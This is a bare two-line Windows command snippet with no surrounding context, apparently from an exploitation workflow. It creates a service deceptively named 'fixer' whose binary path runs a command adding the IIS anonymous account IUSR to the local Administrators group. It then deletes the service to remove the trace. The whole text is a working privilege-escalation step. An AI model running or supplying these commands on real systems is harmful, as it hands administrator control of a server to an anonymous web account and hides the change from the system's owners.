sc create fixer binPath= "cmd /c net localgroup Administrators IUSR /add" start= demand
sc delete fixer
